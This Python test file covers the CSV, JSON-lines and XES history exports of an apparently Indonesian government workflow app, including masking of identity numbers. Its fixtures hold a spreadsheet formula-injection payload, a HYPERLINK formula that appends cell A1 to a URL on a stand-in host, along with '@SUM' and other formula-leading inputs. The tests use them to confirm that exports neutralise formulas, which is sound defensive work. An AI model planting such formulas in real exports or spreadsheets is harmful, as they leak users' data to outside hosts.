"""Exports tell every entry once, in formats that other programs read and none of them calculates."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from contextlib import closing
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from app.wiring import Office
from storage.exporting import cells
from storage.exporting.entries import HIDDEN, without_numbers
from storage.exports import COLUMNS, HISTORY, register_csv, wanted
from storage.history import history
from storage.register import register
from tests import world
from tests.storage.xes_reader import read
from workflow.authority import Role
from workflow.canonical import plain
from workflow.errors import DrawingFailed, InvalidField

FORMULA = '=HYPERLINK("http://x.example/"&A1;"klik")'
NOTE = f"{FORMULA}\nbaris kedua; @SUM(1)\n\t+62 😀, “kutip”"


@pytest.fixture
def office(database_url: str) -> Iterator[Office]:
    """A proposal in socialization and one sent back by someone with the name of a formula, with a formula as note."""
    with world.build(database_url) as made:
        world.carry(made, world.propose(made), "socialization")
        with made.database.transaction() as connection:
            world.grant(connection, FORMULA, Role.hr_officer)
        world.step(made, 1, "send_back", account=FORMULA, note=NOTE)
        made.clock.forward(days=30)
        world.carry(made, world.propose(made, world.COLLEAGUES[2]), "evaluation")
        yield made


def exported(office: Office, form: str, **asked: Any) -> bytes:
    with office.database.reading() as connection:
        days = (asked.get("since"), asked.get("until"), asked.get("people", False))
        return b"".join(HISTORY[form](connection, wanted(connection, *days), None))


def sheet(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def entries(office: Office) -> list[dict[str, Any]]:
    with office.database.reading() as connection:
        return [plain(entry) for entry in history(connection)]


def test_the_sheet_has_a_row_for_each_entry(office: Office) -> None:
    rows = sheet(exported(office, "csv"))
    assert tuple(rows[0]) == COLUMNS
    told = [(int(row["entri"]), int(row["usulan"]), row["langkah"], row["nomor"]) for row in rows]
    assert told == [(one["index"], one["id"], one["verb"], one["decree"]["number"]) for one in entries(office)]
    assert rows[0]["waktu"] == "2026-06-02T09:00:00+07:00"
    assert "R-ELG-06 unmet" in rows[2]["temuan"]


def test_nothing_that_people_typed_is_calculated(office: Office) -> None:
    row = sheet(exported(office, "csv"))[3]
    assert row["pelaku"] == "'" + FORMULA
    assert row["catatan"] == f"'{FORMULA}\nbaris kedua; '@SUM(1)\n\t'+62 😀, “kutip”"


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_a_cell_that_would_be_a_formula_begins_with_an_apostrophe(begin: str) -> None:
    assert cells.safe(f"{begin}1") in (f"'{begin}1", f"{begin}'1")
    assert str(cells.safe(f" {begin}1")).replace(" ", "")[0] in ("'", "\t", "\r")


@pytest.mark.parametrize(
    "cell", [-5, 0, 12, None, "2026-06-02", "2026-06-02T09:00:00+07:00", "a-b", "800.1/1/X", "", "R-ELG-06"]
)
def test_numbers_dates_and_plain_words_stay_as_they_are(cell: cells.Cell) -> None:
    assert cells.safe(cell) == cell


def test_no_separator_of_another_spreadsheet_begins_a_formula() -> None:
    line = cells.line(["a;=1+1", "b\n=2", 'c";@x', "d\t=3", "e"]).decode()
    for separator in ";\t\r\n":
        assert not re.search(f'{separator}[\\s"]*[=+@-]', line)


def test_a_line_of_json_is_the_entry_itself(office: Office) -> None:
    lines = exported(office, "jsonl").split(b"\n")
    assert lines.pop() == b""
    told = [json.loads(line) for line in lines]
    assert [one["note"] for one in told] == [one["note"] for one in entries(office)]
    assert told[3]["actor"] == FORMULA
    assert all(one["kind"] == "INTERNAL" for one in told)


def test_identity_numbers_are_told_only_when_asked_for(office: Office) -> None:
    nips = {nip for nip, *_ in world.PEOPLE}
    for form in HISTORY:
        assert not any(nip.encode() in exported(office, form) for nip in nips)
    assert json.loads(exported(office, "jsonl").split(b"\n")[2])["data"]["team"][0]["nip"] == HIDDEN
    named = sheet(exported(office, "csv", people=True))
    assert (named[0]["nip"], named[0]["nama"]) == ("19900315 201503 2 001", "Sari Wulandari, S.E.")
    assert json.loads(exported(office, "jsonl", people=True).split(b"\n")[0])["nip"] == world.SARI


@pytest.mark.parametrize("text", ["199003152015032001", "NIP 19900315 201503 2 001.", "(199003152015032001)"])
def test_an_identity_number_in_a_text_is_hidden(text: str) -> None:
    assert HIDDEN in without_numbers({"a": [text]})["a"][0]


@pytest.mark.parametrize("text", ["1990031520150320011", "a199003152015032001", "0" * 64, "800.1.3.1/1/BKPSDM/VI/2026"])
def test_other_numbers_are_left_alone(text: str) -> None:
    assert without_numbers(text) == text


def test_a_period_has_its_first_and_last_day_in_the_agencys_zone(office: Office) -> None:
    first, second = date(2026, 6, 2), date(2026, 7, 2)
    assert len(sheet(exported(office, "csv", until=first))) == 4
    assert len(sheet(exported(office, "csv", since=second))) == 2
    assert sheet(exported(office, "csv", since=date(2026, 6, 3), until=date(2026, 7, 1))) == []
    with pytest.raises(InvalidField):
        exported(office, "csv", since=second, until=first)


def test_an_event_log_keeps_the_schema_and_tells_every_step(office: Office) -> None:
    log = read(exported(office, "xes"))
    assert log.attributes == {"concept:name": "Pemerintah Kota Samudra Jaya"}
    assert [attributes["concept:name"] for attributes, _ in log.traces] == ["1", "2"]
    events = log.traces[0][1]
    assert [event["concept:name"] for event in events] == ["submit", "establish_need", "assess", "send_back"]
    assert events[3]["org:resource"] == FORMULA
    assert {event["lifecycle:transition"] for event in events} == {"complete"}
    assert events[0]["time:timestamp"] == world.START
    people = read(exported(office, "xes", people=True)).traces[0][0]
    assert (people["nip"], people["name"]) == (world.SARI, "Sari Wulandari, S.E.")


def test_an_event_log_of_nothing_is_an_event_log(office: Office) -> None:
    assert read(exported(office, "xes", since=date(2030, 1, 1))).traces == []


def test_what_xml_cannot_say_is_replaced_and_the_log_stays_readable(office: Office) -> None:
    with office.database.transaction() as connection:
        connection.execute(world.tables.table(world.tables.Person).update().values(name="Sari\x01 ]]>&\ufffe<😀"))
    person = read(exported(office, "xes", people=True)).traces[0][0]
    assert person["name"] == "Sari� ]]>&�<😀, S.E."


@pytest.mark.filterwarnings("ignore:Install the optional requirement:UserWarning")
def test_a_process_miner_reads_the_event_log(office: Office, tmp_path: Path) -> None:
    pm4py = pytest.importorskip("pm4py", reason="pm4py is no dependency; install it to let it read our event log")
    file = tmp_path / "riwayat.xes"
    file.write_bytes(exported(office, "xes"))
    frame = pm4py.read_xes(str(file))
    assert list(frame["concept:name"]) == [
        "submit",
        "establish_need",
        "assess",
        "send_back",
        "submit",
        "establish_need",
    ]
    assert set(frame["case:concept:name"]) == {"1", "2"}


def test_the_register_tells_every_number_with_its_reason(office: Office) -> None:
    office.press.fails = DrawingFailed(problem="=habis kertas.", problem_en="out of paper.")
    with pytest.raises(DrawingFailed):
        world.step(office, 2, "send_back")
    with office.database.reading() as connection:
        numbers = register(connection, office.clock.real())
    rows = sheet(b"".join(register_csv(numbers, "Asia/Jakarta")))
    assert [(row["nomor"], row["keadaan"]) for row in rows] == [(one["number"], one["status"]) for one in numbers]
    assert [row["alasan"] for row in rows if row["keadaan"] == "void"] == [
        one["reason"] for one in numbers if one["reason"]
    ]


def test_a_note_with_a_null_is_refused_before_it_can_be_exported(office: Office) -> None:
    with pytest.raises(InvalidField):
        world.step(office, 2, "send_back", note="a\0b")
    assert world.show(office, 2)["state"] == "evaluation"


def test_an_erased_entry_is_told_without_what_was_erased(office: Office) -> None:
    payload = world.tables.table(world.tables.Payload)
    with office.database.transaction() as connection:
        connection.execute(payload.delete().where(payload.c.transition == 4))
    row = sheet(exported(office, "csv"))[3]
    assert (row["langkah"], row["catatan"], row["temuan"]) == ("send_back", "", "")
    assert json.loads(exported(office, "jsonl").split(b"\n")[3])["findings"] is None


# Size


FEW, MANY = 1_000, 30_000

EXPORT = """
import resource, sys
from pathlib import Path
from storage.database import Database
from storage.exports import HISTORY, wanted
with Database(sys.argv[1]).reading() as connection, Path(sys.argv[3]).open("wb") as file:
    file.writelines(HISTORY[sys.argv[2]](connection, wanted(connection, None, None, True), None))
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


@pytest.mark.parametrize("form", list(HISTORY))
def test_memory_does_not_grow_with_history(sqlite_url: str, tmp_path: Path, form: str) -> None:
    with world.build(sqlite_url) as office:
        world.carry(office, world.propose(office), "evaluation")
    peaks = []
    for count in (FEW, MANY):
        multiply(sqlite_url, count)
        command = [sys.executable, "-c", EXPORT, sqlite_url, form, str(tmp_path / "keluar")]
        peaks.append(int(subprocess.run(command, capture_output=True, text=True, check=True).stdout))
    assert (tmp_path / "keluar").read_bytes().count(b"submit") >= MANY
    assert peaks[1] - peaks[0] < 8 * 1024


def multiply(url: str, count: int) -> None:
    """So many entries like the first: of proposals of ten steps each."""
    with closing(sqlite3.connect(url.removeprefix("sqlite:///"))) as connection:
        connection.execute("PRAGMA foreign_keys=OFF")
        numbers = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < :count) "
        for row, keys in (
            (world.tables.Proposal, {"id": "n.i + 10"}),
            (world.tables.Transition, {"id": "n.i + 10", "proposal": "11 + n.i / 10", "version": "n.i % 10 + 1"}),
            (world.tables.Payload, {"transition": "n.i + 10"}),
        ):
            table = world.tables.table(row)
            names = [column.name for column in table.c]
            chosen = ", ".join(keys.get(name, f"one.{name}") for name in names)
            first = "transition" if row is world.tables.Payload else "id"
            connection.execute(
                f"{numbers} INSERT OR IGNORE INTO {table.name} ({', '.join(names)}) "
                f"SELECT {chosen} FROM n, (SELECT * FROM {table.name} WHERE {first} = 1) one",
                {"count": count},
            )
        connection.commit()
